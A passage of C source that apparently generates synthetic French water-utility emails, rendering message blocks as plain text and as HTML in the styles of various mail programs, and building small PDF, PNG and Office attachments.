	} else if (KEY("year")) {
		demo_buf_printf(out, "%d", tm.year);
	} else if (KEY("nextyear")) {
		demo_buf_printf(out, "%d", tm.year + 1);
	} else if (KEY("month")) {
		demo_buf_puts(out, demo_phrases[lang].months[tm.mon - 1]);
	} else if (KEY("url")) {
		unsigned u = demo_rng_below(&g->rng, DEMO_ARRAY_SIZE(demo_url_paths));

		demo_buf_printf(out, "https://intranet.eaux-valbrenne.example/%s%d-%02u%s",
				demo_url_paths[u][0], tm.year, tm.mon, demo_url_paths[u][1]);
	} else if (KEY("mgl")) {
		demo_put_tenths(out, demo_rng_range(&g->rng, 300, 720), lang);
		demo_buf_puts(out, lang == DEMO_FR ? " mg/l" : " mg/L");
	} else if (KEY("m3")) {
		demo_put_number(out, demo_rng_range(&g->rng, 50, 3000), lang);
		demo_buf_puts(out, " m³");
	} else {
		demo_buf_putc(out, '{');
		demo_buf_add(out, key, klen);
		demo_buf_putc(out, '}');
	}
#undef KEY
}

/* Expands the {placeholders} of a template. */
static char *
demo_expand(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_env *env, const char *tmpl)
{
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	for (const char *p = tmpl; *p;) {
		const char *close = *p == '{' ? strchr(p, '}') : NULL;

		if (close) {
			demo_expand_key(g, env, p + 1, (size_t)(close - p - 1), &out);
			p = close + 1;
		} else {
			const char *open = strchr(p, '{');
			size_t n = open && open != p ? (size_t)(open - p) : open ? 1 : strlen(p);

			demo_buf_add(&out, p, n);
			p += n;
		}
	}
	return demo_buf_take(g, &out);
}

/* ---------------------------------------------------------------- documents */

/*
 * A message body is first composed as blocks, then rendered as plain text
 * (wrapped or not, flowed or not) and as HTML in the style of the mail
 * program that "wrote" it.
 */
enum demo_block_kind {
	DEMO_B_PARA,  /* a paragraph, wrapped */
	DEMO_B_LIST,  /* items separated by newlines */
	DEMO_B_TABLE, /* rows separated by newlines, cells by tabs; row 0 is the header */
	DEMO_B_LINES, /* lines kept as they are */
	DEMO_B_SIG,   /* signature lines, after "-- " unless the block text starts with "!" */
	DEMO_B_QUOTE, /* lines quoted with "> " */
	DEMO_B_ORIG,  /* an Outlook "original message" header: "Label : value" lines */
};

#define DEMO_MAX_BLOCKS 24

struct demo_block {
	enum demo_block_kind kind;
	const char *text;
};

struct demo_doc {
	struct demo_block b[DEMO_MAX_BLOCKS];
	unsigned n;
};

static void
demo_doc_add(struct demo_doc *d, enum demo_block_kind kind, const char *text)
{
	if (d->n < DEMO_MAX_BLOCKS && text && *text) {
		d->b[d->n].kind = kind;
		d->b[d->n].text = text;
		d->n++;
	}
}

struct demo_plain_style {
	unsigned wrap;      /* columns, 0 for none */
	bool flowed;        /* RFC 3676: soft breaks keep a trailing space */
	const char *bullet;
};

/* Wraps one paragraph at spaces (never at no-break spaces) to width characters. */
static void
demo_wrap(struct demo_buf *out, const char *text, unsigned width, bool flowed,
	  const char *first_prefix, const char *prefix)
{
	const char *p = text;
	size_t col = demo_utf8_len(first_prefix, strlen(first_prefix));
	bool empty = true;

	demo_buf_puts(out, first_prefix);
	while (*p) {
		const char *sp = strchr(p, ' ');
		size_t wlen = sp ? (size_t)(sp - p) : strlen(p);
		size_t wchars = demo_utf8_len(p, wlen);

		if (!empty && width && col + 1 + wchars > width) {
			if (flowed)
				demo_buf_putc(out, ' ');
			demo_buf_putc(out, '\n');
			demo_buf_puts(out, prefix);
			col = demo_utf8_len(prefix, strlen(prefix));
		} else if (!empty) {
			demo_buf_putc(out, ' ');
			col++;
		}
		demo_buf_add(out, p, wlen);
		col += wchars;
		empty = false;
		p += wlen;
		while (*p == ' ')
			p++;
	}
	demo_buf_putc(out, '\n');
}

/* Appends each line of text with a prefix, at most max_lines of them (0: all). */
static void
demo_prefix_lines(struct demo_buf *out, const char *text, const char *prefix, unsigned max_lines)
{
	unsigned n = 0;

	for (const char *p = text; *p;) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p) : strlen(p);

		if (max_lines && n++ >= max_lines)
			break;
		if (*prefix == '>' && len && *p == '>')
			demo_buf_putc(out, '>');
		else
			demo_buf_puts(out, len || *prefix != '>' ? prefix : ">");
		demo_buf_add(out, p, len);
		demo_buf_putc(out, '\n');
		p += len + (nl ? 1 : 0);
	}
}

static void
demo_render_table_plain(struct demo_buf *out, const char *text)
{
	size_t widths[8] = {0};
	unsigned row = 0;

	/* Column widths first, in characters, then the padded rows. */
	for (int pass = 0; pass < 2; pass++) {
		const char *p = text;

		row = 0;
		while (*p) {
			const char *nl = strchr(p, '\n');
			const char *end = nl ? nl : p + strlen(p);
			unsigned col = 0;

			while (p < end && col < 8) {
				const char *tab = memchr(p, '\t', (size_t)(end - p));
				const char *cell_end = tab ? tab : end;
				size_t w = demo_utf8_len(p, (size_t)(cell_end - p));

				if (pass == 0) {
					if (w > widths[col])
						widths[col] = w;
				} else {
					demo_buf_add(out, p, (size_t)(cell_end - p));
					if (tab)
						for (size_t i = w; i < widths[col] + 2; i++)
							demo_buf_putc(out, ' ');
				}
				col++;
				p = tab ? tab + 1 : cell_end;
			}
			if (pass == 1) {
				demo_buf_putc(out, '\n');
				if (row == 0) {
					size_t total = 0;

					for (unsigned i = 0; i < col; i++)
						total += widths[i] + (i + 1 < col ? 2 : 0);
					for (size_t i = 0; i < total; i++)
						demo_buf_putc(out, '-');
					demo_buf_putc(out, '\n');
				}
			}
			row++;
			p = nl ? nl + 1 : end;
		}
	}
}

static char *
demo_render_plain(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_doc *doc,
		  const struct demo_plain_style *st)
{
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	for (unsigned i = 0; i < doc->n; i++) {
		const struct demo_block *b = &doc->b[i];

		if (i)
			demo_buf_putc(&out, '\n');
		switch (b->kind) {
		case DEMO_B_PARA:
			demo_wrap(&out, b->text, st->wrap, st->flowed, "", "");
			break;
		case DEMO_B_LIST: {
			const char *p = b->text;

			while (*p) {
				const char *nl = strchr(p, '\n');
				char *item = talloc_strndup(ctx, p, nl ? (size_t)(nl - p) : strlen(p));

				if (!item) {
					g->oom = true;
					break;
				}
				demo_wrap(&out, item, st->wrap, st->flowed, st->bullet, "  ");
				talloc_free(item);
				p = nl ? nl + 1 : p + strlen(p);
			}
			break;
		}
		case DEMO_B_TABLE:
			demo_render_table_plain(&out, b->text);
			break;
		case DEMO_B_SIG:
			if (b->text[0] == '!') {
				demo_prefix_lines(&out, b->text + 1, "", 0);
			} else {
				demo_buf_puts(&out, "-- \n");
				demo_prefix_lines(&out, b->text, "", 0);
			}
			break;
		case DEMO_B_QUOTE:
			demo_prefix_lines(&out, b->text, "> ", DEMO_QUOTE_LINES);
			break;
		case DEMO_B_LINES:
		case DEMO_B_ORIG:
			demo_prefix_lines(&out, b->text, "", 0);
			break;
		}
	}
	return demo_buf_take(g, &out);
}

/* ---------------------------------------------------------------- HTML */

enum demo_html_style {
	DEMO_HTML_OUTLOOK,
	DEMO_HTML_APPLE,
	DEMO_HTML_WEBMAIL,
	DEMO_HTML_THUNDERBIRD,
	DEMO_HTML_NEWSLETTER,
};

static const struct {
	uint32_t c;
	const char *name;
} demo_entities[] = {
	{0x00A0, "nbsp"}, {0x00AB, "laquo"}, {0x00BB, "raquo"}, {0x00B0, "deg"},
	{0x00B2, "sup2"}, {0x00B3, "sup3"}, {0x00C0, "Agrave"}, {0x00C2, "Acirc"},
	{0x00C7, "Ccedil"}, {0x00C8, "Egrave"}, {0x00C9, "Eacute"}, {0x00CA, "Ecirc"},
	{0x00CE, "Icirc"}, {0x00D4, "Ocirc"}, {0x00E0, "agrave"}, {0x00E2, "acirc"},
	{0x00E7, "ccedil"}, {0x00E8, "egrave"}, {0x00E9, "eacute"}, {0x00EA, "ecirc"},
	{0x00EB, "euml"}, {0x00EE, "icirc"}, {0x00EF, "iuml"}, {0x00F4, "ocirc"},
	{0x00F9, "ugrave"}, {0x00FB, "ucirc"}, {0x00FC, "uuml"}, {0x0152, "OElig"},
	{0x0153, "oelig"}, {0x2013, "ndash"}, {0x2014, "mdash"}, {0x2018, "lsquo"},
	{0x2019, "rsquo"}, {0x201C, "ldquo"}, {0x201D, "rdquo"}, {0x2022, "bull"},
	{0x2026, "hellip"}, {0x20AC, "euro"}, {0x2122, "trade"},
};

/*
 * Escapes text for HTML.  Characters above max_literal become named
 * entities when HTML has a name for them, numeric ones otherwise; a
 * no-break space is always &nbsp; as every mail program writes it.
 */
static void
demo_html_escape(struct demo_buf *out, const char *s, size_t n, uint32_t max_literal,
		 bool apos_entity)
{
	const char *end = s + n;

	while (s < end) {
		const char *start = s;
		uint32_t c = demo_utf8_next(&s);
		const char *name = NULL;

		switch (c) {
		case '&':
			demo_buf_puts(out, "&amp;");
			continue;
		case '<':
			demo_buf_puts(out, "&lt;");
			continue;
		case '>':
			demo_buf_puts(out, "&gt;");
			continue;
		case '"':
			demo_buf_puts(out, "&quot;");
			continue;
		case '\'':
			demo_buf_puts(out, apos_entity ? "&#39;" : "'");
			continue;
		default:
			break;
		}
		if (c < 0x80 || (c <= max_literal && c != 0xA0)) {
			demo_buf_add(out, start, (size_t)(s - start));
			continue;
		}
		for (size_t i = 0; i < DEMO_ARRAY_SIZE(demo_entities); i++)
			if (demo_entities[i].c == c)
				name = demo_entities[i].name;
		if (name)
			demo_buf_printf(out, "&%s;", name);
		else
			demo_buf_printf(out, "&#%u;", (unsigned)c);
	}
}

/* Escapes a line of text and turns the https:// links in it into anchors. */
static void
demo_html_inline(struct demo_buf *out, const char *s, size_t n, uint32_t max_literal, bool apos)
{
	const char *end = s + n;

	while (s < end) {
		const char *link = strstr(s, "https://");

		if (!link || link >= end) {
			demo_html_escape(out, s, (size_t)(end - s), max_literal, apos);
			return;
		}
		demo_html_escape(out, s, (size_t)(link - s), max_literal, apos);
		s = link;
		while (s < end && *s != ' ' && *s != '\n')
			s++;
		demo_buf_puts(out, "<a href=\"");
		demo_html_escape(out, link, (size_t)(s - link), 0x7F, false);
		demo_buf_puts(out, "\">");
		demo_html_escape(out, link, (size_t)(s - link), 0x7F, false);
		demo_buf_puts(out, "</a>");
	}
}

/* Lines of text as escaped HTML joined with <br>. */
static void
demo_html_lines(struct demo_buf *out, const char *text, uint32_t max_literal, bool apos,
		bool bold_labels, unsigned max_lines)
{
	unsigned n = 0;

	for (const char *p = text; *p;) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p) : strlen(p);
		const char *colon = bold_labels ? memchr(p, ':', len) : NULL;

		if (max_lines && n++ >= max_lines)
			break;
		if (colon) {
			demo_buf_puts(out, "<b>");
			demo_html_escape(out, p, (size_t)(colon - p + 1), max_literal, apos);
			demo_buf_puts(out, "</b>");
			demo_html_inline(out, colon + 1, len - (size_t)(colon - p + 1), max_literal, apos);
		} else {
			demo_html_inline(out, p, len, max_literal, apos);
		}
		demo_buf_puts(out, "<br>\n");
		p += len + (nl ? 1 : 0);
	}
}

static void
demo_html_table(struct demo_buf *out, const char *text, uint32_t max_literal, bool outlook)
{
	unsigned row = 0;

	demo_buf_puts(out, outlook ? "<table class=\"MsoTableGrid\" border=\"1\" cellspacing=\"0\" "
				     "cellpadding=\"0\" style=\"border-collapse:collapse;border:none\">\n"
				   : "<table border=\"1\" cellpadding=\"4\" cellspacing=\"0\">\n");
	for (const char *p = text; *p; row++) {
		const char *nl = strchr(p, '\n');
		const char *end = nl ? nl : p + strlen(p);

		demo_buf_puts(out, "<tr>");
		while (p < end) {
			const char *tab = memchr(p, '\t', (size_t)(end - p));
			const char *cell_end = tab ? tab : end;

			demo_buf_puts(out, row ? "<td>" : "<th>");
			demo_html_escape(out, p, (size_t)(cell_end - p), max_literal, false);
			demo_buf_puts(out, row ? "</td>" : "</th>");
			p = tab ? tab + 1 : cell_end;
		}
		demo_buf_puts(out, "</tr>\n");
		p = nl ? nl + 1 : end;
	}
	demo_buf_puts(out, "</table>\n");
}

static void
demo_html_para(struct demo_buf *out, enum demo_html_style st, const char *text, size_t len,
	       uint32_t max_literal)
{
	bool apos = st == DEMO_HTML_WEBMAIL;

	switch (st) {
	case DEMO_HTML_OUTLOOK:
		demo_buf_puts(out, "<p class=\"MsoNormal\">");
		demo_html_inline(out, text, len, max_literal, apos);
		demo_buf_puts(out, "<o:p></o:p></p>\n<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>\n");
		break;
	case DEMO_HTML_APPLE:
		demo_buf_puts(out, "<div class=\"\">");
		demo_html_inline(out, text, len, max_literal, apos);
		demo_buf_puts(out, "</div><div class=\"\"><br class=\"\"></div>\n");
		break;
	case DEMO_HTML_WEBMAIL:
		demo_buf_puts(out, "<div>");
		demo_html_inline(out, text, len, max_literal, apos);
		demo_buf_puts(out, "</div><div><br></div>");
		break;
	default:
		demo_buf_puts(out, "    <p>");
		demo_html_inline(out, text, len, max_literal, apos);
		demo_buf_puts(out, "</p>\n");
		break;
	}
}

/*
 * Renders the blocks as the HTML part of a multipart/alternative, in the
 * habits of the program: Word's MsoNormal paragraphs, Apple's divs with
 * empty classes, a web mail's gmail-like quote, Thunderbird's moz-cite.
 * charset is what the meta tag says; max_literal what it can carry.
 */
static char *
demo_render_html(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_doc *doc,
		 enum demo_html_style st, const char *charset, uint32_t max_literal, const char *logo_cid)
{
	struct demo_buf out;
	bool apos = st == DEMO_HTML_WEBMAIL;
	bool in_quote = false;

	demo_buf_init(&out, ctx);
	switch (st) {
	case DEMO_HTML_OUTLOOK:
		demo_buf_printf(&out,
				"<html xmlns:v=\"urn:schemas-microsoft-com:vml\" "
				"xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
				"xmlns:w=\"urn:schemas-microsoft-com:office:word\" "
				"xmlns=\"http://www.w3.org/TR/REC-html40\">\n<head>\n"
				"<meta http-equiv=\"Content-Type\" content=\"text/html; charset=%s\">\n"
				"<meta name=\"Generator\" content=\"Microsoft Word 14 (filtered medium)\">\n"
				"<style><!--\n"
				"p.MsoNormal, li.MsoNormal, div.MsoNormal\n"
				"\t{margin:0cm;margin-bottom:.0001pt;font-size:11.0pt;"
				"font-family:\"Calibri\",\"sans-serif\";}\n"
				"a:link, span.MsoHyperlink\n\t{color:blue;text-decoration:underline;}\n"
				"--></style>\n</head>\n<body lang=\"FR\" link=\"blue\" vlink=\"purple\">\n"
				"<div class=\"WordSection1\">\n",
				charset);
		break;
	case DEMO_HTML_APPLE:
		demo_buf_printf(&out,
				"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; "
				"charset=%s\"></head><body style=\"word-wrap: break-word; "
				"-webkit-nbsp-mode: space; -webkit-line-break: after-white-space;\" "
				"class=\"\">",
				charset);
		break;
	case DEMO_HTML_WEBMAIL:
		demo_buf_puts(&out, "<div dir=\"ltr\">");
		break;
	default:
		demo_buf_printf(&out,
				"<html>\n  <head>\n    <meta http-equiv=\"content-type\" "
				"content=\"text/html; charset=%s\">\n  </head>\n"
				"  <body text=\"#000000\" bgcolor=\"#FFFFFF\">\n",
				charset);
		break;
	}
	for (unsigned i = 0; i < doc->n; i++) {
		const struct demo_block *b = &doc->b[i];
		bool quote_next = i + 1 < doc->n && doc->b[i + 1].kind == DEMO_B_QUOTE;

		switch (b->kind) {
		case DEMO_B_PARA:
			if (quote_next && st == DEMO_HTML_WEBMAIL) {
				/* The attribution line opens the quote box. */
				demo_buf_puts(&out, "</div><br><div class=\"gmail_quote\"><div dir=\"ltr\">");
				demo_html_escape(&out, b->text, strlen(b->text), max_literal, apos);
				demo_buf_puts(&out, "<br></div>");
				in_quote = true;
			} else if (quote_next && st == DEMO_HTML_THUNDERBIRD) {
				demo_buf_puts(&out, "    <div class=\"moz-cite-prefix\">");
				demo_html_escape(&out, b->text, strlen(b->text), max_literal, apos);
				demo_buf_puts(&out, "<br>\n    </div>\n");
			} else {
				demo_html_para(&out, st, b->text, strlen(b->text), max_literal);
			}
			break;
		case DEMO_B_LIST: {
			demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<ul style=\"margin-top:0cm\" type=\"disc\">\n"
								    : "<ul>\n");
			for (const char *p = b->text; *p;) {
				const char *nl = strchr(p, '\n');
				size_t len = nl ? (size_t)(nl - p) : strlen(p);

				demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<li class=\"MsoNormal\">" : "<li>");
				demo_html_inline(&out, p, len, max_literal, apos);
				demo_buf_puts(&out, "</li>\n");
				p += len + (nl ? 1 : 0);
			}
			demo_buf_puts(&out, "</ul>\n");
			break;
		}
		case DEMO_B_TABLE:
			demo_html_table(&out, b->text, max_literal, st == DEMO_HTML_OUTLOOK);
			break;
		case DEMO_B_SIG: {
			const char *text = b->text[0] == '!' ? b->text + 1 : b->text;

			if (st == DEMO_HTML_WEBMAIL)
				demo_buf_puts(&out, "-- <br><div dir=\"ltr\" class=\"gmail_signature\">");
			else if (st == DEMO_HTML_THUNDERBIRD)
				demo_buf_puts(&out, "    <pre class=\"moz-signature\" cols=\"72\">-- \n");
			else
				demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<p class=\"MsoNormal\">"
									    : "<div class=\"\">");
			if (st == DEMO_HTML_THUNDERBIRD) {
				demo_html_escape(&out, text, strlen(text), max_literal, apos);
				demo_buf_puts(&out, "</pre>\n");
				break;
			}
			if (b->text[0] != '!' && st != DEMO_HTML_WEBMAIL)
				demo_buf_puts(&out, "-- <br>\n");
			demo_html_lines(&out, text, max_literal, apos, false, 0);
			if (logo_cid && st == DEMO_HTML_OUTLOOK)
				demo_buf_printf(&out, "<img width=\"48\" height=\"32\" id=\"Image_x0020_1\" "
						      "src=\"cid:%s\" alt=\"Logo\">", logo_cid);
			demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<o:p></o:p></p>\n" : "</div>");
			break;
		}
		case DEMO_B_QUOTE:
			if (st == DEMO_HTML_WEBMAIL)
				demo_buf_puts(&out, "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px "
						    "0px 0.8ex;border-left:1px solid rgb(204,204,204);"
						    "padding-left:1ex\">");
			else
				demo_buf_puts(&out, "<blockquote type=\"cite\">\n");
			demo_html_lines(&out, b->text, max_literal, apos, false, DEMO_QUOTE_LINES);
			demo_buf_puts(&out, "</blockquote>\n");
			if (in_quote) {
				demo_buf_puts(&out, "</div>");
				in_quote = false;
				/* The outer div was closed when the quote opened. */
				demo_buf_puts(&out, "<div>");
			}
			break;
		case DEMO_B_ORIG:
			demo_buf_puts(&out, "<div style=\"border:none;border-top:solid #E1E1E1 1.0pt;"
					    "padding:3.0pt 0cm 0cm 0cm\">\n<p class=\"MsoNormal\">");
			demo_html_lines(&out, b->text, max_literal, apos, true, 0);
			demo_buf_puts(&out, "<o:p></o:p></p>\n</div>\n");
			break;
		case DEMO_B_LINES:
			demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<p class=\"MsoNormal\">" : "<div>");
			demo_html_lines(&out, b->text, max_literal, apos, false, 0);
			demo_buf_puts(&out, st == DEMO_HTML_OUTLOOK ? "<o:p></o:p></p>\n" : "</div>\n");
			break;
		}
	}
	switch (st) {
	case DEMO_HTML_OUTLOOK:
		demo_buf_puts(&out, "</div>\n</body>\n</html>\n");
		break;
	case DEMO_HTML_APPLE:
		demo_buf_puts(&out, "</body></html>\n");
		break;
	case DEMO_HTML_WEBMAIL:
		demo_buf_puts(&out, "</div>\n");
		break;
	default:
		demo_buf_puts(&out, "  </body>\n</html>\n");
		break;
	}
	return demo_buf_take(g, &out);
}

/* ---------------------------------------------------------------- attachment contents */

/* Escapes text for a PDF string in WinAnsiEncoding (windows-1252). */
static void
demo_pdf_string(struct demo_buf *out, const char *utf8)
{
	struct demo_buf tmp;

	demo_buf_init(&tmp, out->ctx);
	demo_convert(utf8, DEMO_CS_CP1252, &tmp);
	demo_buf_putc(out, '(');
	for (size_t i = 0; i < tmp.len; i++) {
		char c = tmp.p[i];

		if (c == '(' || c == ')' || c == '\\')
			demo_buf_putc(out, '\\');
		demo_buf_putc(out, c);
	}
	demo_buf_putc(out, ')');
	if (tmp.oom)
		out->oom = true;
	talloc_free(tmp.p);
}

/*
 * A small but well-formed PDF: one A4 page with a title and lines of text,
 * and, when image_bytes is not 0, a grey "scanned" image of that size,
 * which is what makes the large scans large.
 */
static void
demo_make_pdf(struct demo_gen *g, struct demo_buf *out, const char *title, const char *const *lines,
	      unsigned nlines, int64_t when, size_t image_bytes)
{
	size_t offs[8];
	unsigned nobj = 0;
	struct demo_buf content;
	struct demo_tm tm;
	size_t xref;
	unsigned width = 512, height = image_bytes ? (unsigned)(image_bytes / 512) : 0;

	demo_localtime(when, DEMO_TZ_PARIS, &tm);
	demo_buf_init(&content, out->ctx);
	demo_buf_puts(&content, "BT /F1 16 Tf 56 780 Td ");
	demo_pdf_string(&content, title);
	demo_buf_puts(&content, " Tj /F1 10 Tf");
	for (unsigned i = 0; i < nlines; i++) {
		demo_buf_puts(&content, " 0 -16 Td ");
		demo_pdf_string(&content, lines[i]);
		demo_buf_puts(&content, " Tj");
	}
	demo_buf_puts(&content, " ET\n");
	if (height)
		demo_buf_printf(&content, "q 483 0 0 %u 56 %u cm /Im1 Do Q\n", height * 483 / width,
				700 - nlines * 16 - height * 483 / width);

	demo_buf_puts(out, "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n");
	offs[nobj++] = out->len;
	demo_buf_puts(out, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
	offs[nobj++] = out->len;
	demo_buf_puts(out, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
	offs[nobj++] = out->len;
	demo_buf_printf(out, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
			     "/Contents 4 0 R /Resources << /Font << /F1 5 0 R >>%s >> >>\nendobj\n",
			height ? " /XObject << /Im1 7 0 R >>" : "");
	offs[nobj++] = out->len;
	demo_buf_printf(out, "4 0 obj\n<< /Length %zu >>\nstream\n", content.len);
	demo_buf_add(out, demo_buf_str(&content), content.len);
	demo_buf_puts(out, "endstream\nendobj\n");
	offs[nobj++] = out->len;
	demo_buf_puts(out, "5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
			   "/Encoding /WinAnsiEncoding >>\nendobj\n");
	offs[nobj++] = out->len;
	demo_buf_puts(out, "6 0 obj\n<< /Title ");
	demo_pdf_string(out, title);
	demo_buf_printf(out, " /Producer (%s) /CreationDate (D:%04d%02u%02u%02u%02u%02u+%02d'00') >>\n"
			     "endobj\n",
			height ? "Scan to PDF 3.1" : "Microsoft\xae Word 2010", tm.year, tm.mon, tm.day,
			tm.hour, tm.min, tm.sec, tm.off / 60);
	if (height) {
		offs[nobj++] = out->len;
		demo_buf_printf(out, "7 0 obj\n<< /Type /XObject /Subtype /Image /Width %u /Height %u "
				     "/ColorSpace /DeviceGray /BitsPerComponent 8 /Length %u >>\nstream\n",
				width, height, width * height);
		for (unsigned i = 0; i < width * height; i += 8) {
			uint64_t r = demo_rng_next(&g->rng);
			unsigned char px[8];

			/* Mostly white paper with grey specks and text-like dark runs. */
			for (int k = 0; k < 8; k++) {
				unsigned v = (unsigned)(r >> (k * 8)) & 0xFF;

				px[k] = (unsigned char)((i / width) % 14 < 3 && v < 120 ? 40 : 235 + v % 20);
			}
			demo_buf_add(out, px, 8);
		}
		demo_buf_puts(out, "\nendstream\nendobj\n");
	}
	xref = out->len;
	demo_buf_printf(out, "xref\n0 %u\n0000000000 65535 f \n", nobj + 1);
	for (unsigned i = 0; i < nobj; i++)
		demo_buf_printf(out, "%010zu 00000 n \n", offs[i]);
	demo_buf_printf(out, "trailer\n<< /Size %u /Root 1 0 R /Info 6 0 R >>\nstartxref\n%zu\n%%%%EOF\n",
			nobj + 1, xref);
	if (content.oom)
		out->oom = true;
	talloc_free(content.p);
}

static uint32_t
demo_crc32(const unsigned char *p, size_t n)
{
	uint32_t table[256], crc = 0xFFFFFFFFu;

	for (uint32_t i = 0; i < 256; i++) {
		uint32_t c = i;

		for (int k = 0; k < 8; k++)
			c = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1)));
		table[i] = c;
	}
	for (size_t i = 0; i < n; i++)
		crc = table[(crc ^ p[i]) & 0xFF] ^ (crc >> 8);
	return crc ^ 0xFFFFFFFFu;
}

static void
demo_put_be32(struct demo_buf *out, uint32_t v)
{
	unsigned char b[4] = {(unsigned char)(v >> 24), (unsigned char)(v >> 16),
			      (unsigned char)(v >> 8), (unsigned char)v};

	demo_buf_add(out, b, 4);
}

static void
demo_png_chunk(struct demo_buf *out, const char *type, const unsigned char *data, size_t n)
{
	size_t start;

	demo_put_be32(out, (uint32_t)n);
	start = out->len;
	demo_buf_add(out, type, 4);
	if (n)
		demo_buf_add(out, data, n);
	if (!out->oom)
		demo_put_be32(out, demo_crc32((const unsigned char *)out->p + start, n + 4));
}

/*
 * A valid PNG (RGB, zlib with stored blocks, so no compressor is needed):
 * a logo (a drop on a blue field) or a "site photo" (grey roadway, brown
 * trench, a puddle).
 */
static void
demo_make_png(struct demo_gen *g, struct demo_buf *out, unsigned w, unsigned h, bool photo)
{
	struct demo_buf raw, z;
	unsigned char ihdr[13];
	uint32_t a = 1, b = 0;
	size_t off = 0;

	demo_buf_init(&raw, out->ctx);
	demo_buf_init(&z, out->ctx);
	for (unsigned y = 0; y < h; y++) {
		demo_buf_putc(&raw, 0);
		for (unsigned x = 0; x < w; x++) {
			unsigned char px[3];
			int dx = (int)x - (int)w / 2, dy = (int)y - (int)h / 2;
			unsigned noise = (unsigned)(demo_rng_next(&g->rng) & 0x1F);

			if (!photo) {
				bool drop = dx * dx + (dy + 3) * (dy + 3) < (int)(h * h) / 12 ||
					    (dy < -2 && (dx < 0 ? -dx : dx) < ((int)h / 2 + dy) / 2);

				px[0] = drop ? 235 : (unsigned char)(20 + y);
				px[1] = drop ? 245 : (unsigned char)(90 + y);
				px[2] = drop ? 255 : (unsigned char)(170 + x / 2);
			} else if (dx * dx + dy * dy * 3 < (int)(w * w) / 16) {
				px[0] = (unsigned char)(60 + noise);
				px[1] = (unsigned char)(90 + noise);
				px[2] = (unsigned char)(120 + noise);
			} else if ((dy < 0 ? -dy : dy) < (int)h / 5) {
				px[0] = (unsigned char)(120 + noise);
				px[1] = (unsigned char)(85 + noise);
				px[2] = (unsigned char)(50 + noise);
			} else {
				px[0] = px[1] = px[2] = (unsigned char)(110 + noise * 2);
			}
			demo_buf_add(&raw, px, 3);
		}
	}
	demo_buf_puts(&z, "\x78\x01");
	while (off < raw.len && !raw.oom) {
		size_t n = raw.len - off > 65535 ? 65535 : raw.len - off;
		unsigned char hdr[5] = {off + n == raw.len ? 1 : 0, (unsigned char)(n & 0xFF),
					(unsigned char)(n >> 8), (unsigned char)(~n & 0xFF),
					(unsigned char)((~n >> 8) & 0xFF)};

		demo_buf_add(&z, hdr, 5);
		demo_buf_add(&z, raw.p + off, n);
		off += n;
	}
	for (size_t i = 0; i < raw.len; i++) {
		a = (a + (unsigned char)raw.p[i]) % 65521;
		b = (b + a) % 65521;
	}
	demo_put_be32(&z, (b << 16) | a);

	demo_buf_add(out, "\x89PNG\r\n\x1a\n", 8);
	ihdr[0] = (unsigned char)(w >> 24);
	ihdr[1] = (unsigned char)(w >> 16);
	ihdr[2] = (unsigned char)(w >> 8);
	ihdr[3] = (unsigned char)w;
	ihdr[4] = (unsigned char)(h >> 24);
	ihdr[5] = (unsigned char)(h >> 16);
	ihdr[6] = (unsigned char)(h >> 8);
	ihdr[7] = (unsigned char)h;
	ihdr[8] = 8;  /* bit depth */
	ihdr[9] = 2;  /* RGB */
	ihdr[10] = 0; /* deflate */
	ihdr[11] = 0; /* adaptive filtering */
	ihdr[12] = 0; /* no interlace */
	demo_png_chunk(out, "IHDR", ihdr, sizeof(ihdr));
	demo_png_chunk(out, "IDAT", (const unsigned char *)demo_buf_str(&z), z.len);
	demo_png_chunk(out, "IEND", NULL, 0);
	if (raw.oom || z.oom)
		out->oom = true;
	talloc_free(raw.p);
	talloc_free(z.p);
}

/* Office files are opaque here: the right magic number, then noise. */
static void
demo_make_office(struct demo_gen *g, struct demo_buf *out, bool zip, size_t size)
{
	/* A zip local file header (Office Open XML) or the OLE2 signature (.xls). */
	static const unsigned char zip_magic[] = {'P', 'K', 3, 4, 0x14, 0, 6, 0, 8, 0, 0, 0, '!', 0};
	static const unsigned char ole_magic[] = {0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1,
						  0, 0, 0, 0, 0, 0, 0, 0};

	if (zip) {
		demo_buf_add(out, zip_magic, sizeof(zip_magic));
		demo_buf_puts(out, "[Content_Types].xml");
	} else {
		demo_buf_add(out, ole_magic, sizeof(ole_magic));
	}
	while (out->len < size && !out->oom) {
		uint64_t r = demo_rng_next(&g->rng);
		unsigned char b[8];

		/* Byte by byte, so the output does not depend on the machine's byte order. */
		for (int k = 0; k < 8; k++)
			b[k] = (unsigned char)(r >> (8 * k));
		demo_buf_add(out, b, sizeof(b));
	}
}

/* ---------------------------------------------------------------- MIME output */

/* How a file name is written in Content-Type and Content-Disposition. */
enum demo_name_style {
	DEMO_NAME_PLAIN,       /* name="x", as an RFC 822 quoted-string */
	DEMO_NAME_RAW,         /* name="<raw UTF-8>", as some web mails do */
	DEMO_NAME_2231,        /* filename*=utf-8''... */
	DEMO_NAME_2231_CONT,   /* filename*0*=utf-8''...; filename*1*=... */
	DEMO_NAME_2231_LATIN1, /* filename*=iso-8859-1''... */
	DEMO_NAME_2047_Q,      /* name="=?iso-8859-1?Q?...?=", as Outlook does */
